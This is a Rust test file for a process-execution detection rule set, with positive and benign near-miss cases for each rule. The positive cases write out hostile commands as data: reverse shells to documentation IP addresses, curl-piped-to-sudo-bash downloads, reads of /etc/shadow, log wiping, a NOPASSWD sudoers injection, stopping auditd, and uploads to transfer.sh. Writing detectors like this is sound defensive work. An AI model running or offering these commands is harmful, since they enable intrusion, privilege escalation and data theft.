use std::collections::BTreeSet;

use super::*;
use crate::detect::exec::Exec;

/// Which rules fire.
fn fired(exec: &Exec<'_>) -> Vec<&'static str> {
    all().filter(|rule| (rule.matches)(exec)).map(|rule| rule.id).collect()
}

/// An exec of `exe` from a login shell.
fn exec<'a>(exe: &'a str, argv: &[&'a str]) -> Exec<'a> {
    below(exe, argv, &["/usr/bin/bash", "/usr/sbin/sshd"])
}

fn below<'a>(exe: &'a str, argv: &[&'a str], ancestors: &[&'a str]) -> Exec<'a> {
    Exec {
        exe,
        filename: exe,
        argv: argv.to_vec(),
        command_line: argv.join(" "),
        cwd: "/home/ann",
        parent: ancestors.first().copied().unwrap_or_default(),
        ancestors: ancestors.to_vec(),
        flags: Vec::new(),
        uid: Some(1000),
    }
}

fn with<'a>(exec: Exec<'a>, flags: &[&'a str]) -> Exec<'a> {
    Exec { flags: flags.to_vec(), ..exec }
}

/// A case for each rule that must fire.
fn positives() -> Vec<(&'static str, Exec<'static>)> {
    let sh = |script: &'static str| exec("/usr/bin/dash", &["sh", "-c", script]);
    let sudo = |argv: &[&'static str]| exec("/usr/bin/sudo", argv);
    vec![
        ("exec-memfd", with(exec("memfd:x", &["x"]), &["memfd", "tmpfs"])),
        ("exec-deleted", with(exec("/usr/bin/x", &["x"]), &["deleted"])),
        ("exec-dev-shm", exec("/dev/shm/x", &["/dev/shm/x"])),
        ("exec-hidden", exec("/usr/bin/.sshd", &["sshd"])),
        ("exec-hidden", exec("/tmp/.X11-unix/.rsync/run", &["run"])),
        ("exec-volatile", exec("/tmp/packed", &["/tmp/packed"])),
        ("exec-volatile", exec("/run/user/1000/x", &["x"])),
        ("script-volatile", exec("/usr/bin/bash", &["bash", "/tmp/x.sh"])),
        ("script-volatile", Exec { cwd: "/dev/shm", ..exec("/usr/bin/python3.11", &["python3", "x.py"]) }),
        ("shell-inet-stdio", with(exec("/usr/bin/bash", &["bash", "-i"]), &["stdin_socket", "stdin_inet"])),
        ("shell-inet-stdio", with(exec("/usr/bin/python3.11", &["python3"]), &["stdout_inet"])),
        ("reverse-shell", exec("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])),
        ("reverse-shell", exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.7", "443"])),
        ("reverse-shell", exec("/usr/bin/socat", &["socat", "TCP:203.0.113.7:1", "EXEC:bash -li,pty"])),
        ("reverse-shell", sh("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 1 > /tmp/f")),
        (
            "reverse-shell",
            exec(
                "/usr/bin/python3.11",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
                ],
            ),
        ),
        ("server-spawns-shell", below("/usr/bin/dash", &["sh", "-c", "id"], &["/usr/sbin/php-fpm8.2"])),
        ("server-spawns-shell", below("/usr/bin/curl", &["curl", "x"], &["/usr/bin/dash", "/usr/sbin/apache2"])),
        ("server-spawns-shell", below("/usr/bin/bash", &["bash", "-c", "id"], &["/usr/bin/java"])),
        ("download-to-shell", sh("curl -sS http://203.0.113.9/x.sh | sudo bash")),
        ("download-to-shell", sh("bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\"")),
        ("download-to-shell", sh("cd /tmp; wget -qO- http://203.0.113.9/x | tee x | sh")),
        ("decode-to-shell", sh("echo aWQ= | base64 -d | sh")),
        ("decode-to-shell", exec("/usr/bin/python3", &["python3", "-c", "exec(base64.b64decode('aWQ='))"])),
        ("privilege-gain", with(exec("/home/ann/x", &["x"]), &["privilege_gain"])),
        ("privilege-gain", with(exec("/tmp/sudo", &["sudo"]), &["privilege_gain"])),
        ("crypto-miner", exec("/usr/bin/x", &["x", "-o", "stratum+tcp://pool.example.org:3333"])),
        ("crypto-miner", exec("/opt/xmrig", &["xmrig"])),
        ("security-tool-stop", exec("/usr/bin/systemctl", &["systemctl", "stop", "auditd.service"])),
        ("security-tool-stop", exec("/usr/sbin/setenforce", &["setenforce", "0"])),
        ("security-tool-stop", exec("/usr/bin/pkill", &["pkill", "-9", "skep-agent"])),
        ("firewall-flush", exec("/usr/sbin/xtables-nft-multi", &["iptables", "-F"])),
        ("firewall-flush", exec("/usr/sbin/nft", &["nft", "flush", "ruleset"])),
        ("log-clearing", exec("/usr/bin/rm", &["rm", "-rf", "/var/log/auth.log"])),
        ("log-clearing", exec("/usr/bin/truncate", &["truncate", "-s0", "/home/ann/.bash_history"])),
        ("credential-file", exec("/usr/bin/cat", &["cat", "/etc/shadow"])),
        ("credential-file", exec("/usr/bin/dd", &["dd", "if=/proc/4242/mem", "of=/tmp/x"])),
        ("kernel-module-load", exec("/usr/bin/kmod", &["insmod", "/tmp/r.ko"])),
        ("shell-escape", sudo(&["sudo", "vim", "-c", ":!/bin/sh"])),
        ("shell-escape", exec("/usr/bin/find", &["find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"])),
        ("setuid-grant", exec("/usr/bin/chmod", &["chmod", "u+s", "/tmp/x"])),
        ("setuid-grant", exec("/usr/bin/chmod", &["chmod", "4755", "/tmp/x"])),
        ("setuid-grant", exec("/usr/sbin/setcap", &["setcap", "cap_setuid=ep", "/tmp/x"])),
        ("start-file-change", exec("/usr/bin/tee", &["tee", "-a", "/etc/ld.so.preload"])),
        ("start-file-change", sh("echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers")),
        ("volatile-start", exec("/usr/bin/crontab", &["crontab", "/tmp/x"])),
        ("volatile-start", exec("/usr/bin/systemctl", &["systemctl", "link", "/dev/shm/x.service"])),
        ("timestomp", exec("/usr/bin/touch", &["touch", "-r", "/bin/ls", "/usr/bin/x"])),
        ("drop-upload", exec("/usr/bin/curl", &["curl", "--upload-file", "/tmp/d", "https://transfer.sh/d"])),
    ]
}

/// Ordinary work that comes close.
fn negatives() -> Vec<Exec<'static>> {
    let sh = |script: &'static str| exec("/usr/bin/dash", &["sh", "-c", script]);
    let runc = ["/usr/bin/containerd-shim-runc-v2"];
    vec![
        with(below("memfd:runc_cloned", &["runc", "init"], &runc), &["memfd", "deleted"]),
        exec("/usr/bin/ls", &["ls", "/dev/shm/x"]),
        exec("/home/ann/.cargo/bin/cargo", &["cargo", "build"]),
        below("/tmp/go-build1/a.test", &["a.test"], &["/usr/local/go/bin/go", "/usr/bin/bash"]),
        exec("/usr/bin/vim", &["vim", "/tmp/x.sh"]),
        below("/usr/bin/bash", &["bash", "-e", "/tmp/step.sh"], &["/usr/bin/make"]),
        exec("/usr/bin/bash", &["bash", "/home/ann/x.sh"]),
        with(below("/usr/bin/bash", &["-bash"], &["/usr/sbin/sshd"]), &["stdin_socket", "stdin_inet"]),
        with(exec("/usr/bin/cat", &["cat"]), &["stdin_socket", "stdin_inet"]),
        with(exec("/usr/bin/bash", &["bash"]), &["stdin_socket"]),
        sh("timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"),
        exec("/usr/bin/nc", &["nc", "-z", "db", "5432"]),
        exec("/usr/bin/python3.11", &["python3", "-c", "import socket; print(socket.gethostname())"]),
        below("/usr/bin/dash", &["sh", "-c", "locale -a"], &["/usr/lib/postgresql/15/bin/postgres"]),
        below("/usr/sbin/apache2", &["apache2", "-k", "start"], &["/usr/sbin/apache2"]),
        below("/usr/bin/dash", &["sh", "-c", "tsc --build"], &["/usr/bin/node", "/usr/bin/npm"]),
        sh("curl -s http://localhost/health | grep ok"),
        sh("curl -s http://localhost/x.json | python3 -m json.tool"),
        sh("echo aWQ= | base64 -d > x"),
        exec("/usr/bin/base64", &["base64", "-d", "x"]),
        with(exec("/usr/bin/sudo", &["sudo", "ls"]), &["setuid", "privilege_gain"]),
        with(exec("/usr/bin/ping", &["ping", "host"]), &["setuid", "privilege_gain"]),
        Exec { uid: Some(0), ..with(exec("/usr/lib/utempter", &["utempter"]), &["setgid", "privilege_gain"]) },
        exec("/usr/bin/systemctl", &["systemctl", "restart", "nginx"]),
        exec("/usr/bin/systemctl", &["systemctl", "status", "auditd"]),
        below("/usr/bin/systemctl", &["systemctl", "stop", "rsyslog"], &["/usr/bin/dpkg"]),
        exec("/usr/sbin/iptables", &["iptables", "-F", "DOCKER-USER"]),
        exec("/usr/sbin/iptables", &["iptables", "-L"]),
        exec("/usr/bin/rm", &["rm", "-f", "/var/log/app/old.log"]),
        below("/usr/bin/rm", &["rm", "-f", "/var/log/syslog"], &["/usr/sbin/logrotate"]),
        exec("/usr/bin/cat", &["cat", "/etc/passwd"]),
        exec("/usr/bin/cat", &["cat", "/etc/ssh/ssh_host_ed25519_key.pub"]),
        exec("/usr/bin/cat", &["cat", "/proc/self/environ"]),
        exec("/usr/bin/kmod", &["insmod", "/lib/modules/6.1.0/kernel/x.ko"]),
        exec("/usr/bin/vim", &["vim", "/bin/sh-notes.txt"]),
        exec("/usr/bin/find", &["find", ".", "-exec", "grep", "x", "{}", ";"]),
        exec("/usr/bin/chmod", &["chmod", "0755", "/usr/local/bin/x"]),
        exec("/usr/bin/chmod", &["chmod", "g+s", "/srv/shared"]),
        exec("/usr/bin/chmod", &["chmod", "+x", "x"]),
        exec("/usr/bin/cat", &["cat", "/etc/hosts"]),
        below("/usr/bin/tee", &["tee", "/etc/cron.d/x"], &["/usr/bin/ansible"]),
        exec("/usr/bin/crontab", &["crontab", "-l"]),
        exec("/usr/bin/touch", &["touch", "x"]),
        exec("/usr/bin/touch", &["touch", "-d", "now", "x"]),
        exec("/usr/bin/curl", &["curl", "-d", "x=1", "https://api.example.org/"]),
    ]
}

#[test]
fn each_rule_fires_on_its_cases() {
    for (rule, exec) in positives() {
        assert!(fired(&exec).contains(&rule), "{rule} did not fire on {:?}: {:?}", exec.command_line, fired(&exec));
    }
}

#[test]
fn no_rule_is_without_a_case() {
    let covered: BTreeSet<_> = positives().into_iter().map(|(rule, _)| rule).collect();
    let rules: BTreeSet<_> = all().map(|rule| rule.id).collect();
    assert_eq!(covered, rules);
}

#[test]
fn ordinary_work_is_left_alone() {
    for exec in negatives() {
        assert_eq!(fired(&exec), [""; 0], "{:?}", exec.command_line);
    }
}

#[test]
fn rules_say_what_people_and_tables_need() {
    let mut ids = BTreeSet::new();
    for rule in all() {
        assert!(ids.insert(rule.id), "{} twice", rule.id);
        assert!(!rule.attack.is_empty() && rule.attack.iter().all(|id| id.starts_with('T')), "{}", rule.id);
        assert!(!rule.title.is_empty() && !rule.benign.is_empty(), "{}", rule.id);
        for column in rule.looks_at {
            assert!(skep_wire::tables::PROCESSES.column(column).is_some(), "{} looks at {column}", rule.id);
        }
    }
}

#[test]
fn an_exec_without_anything_is_no_case() {
    assert_eq!(fired(&Exec::default()), [""; 0]);
}
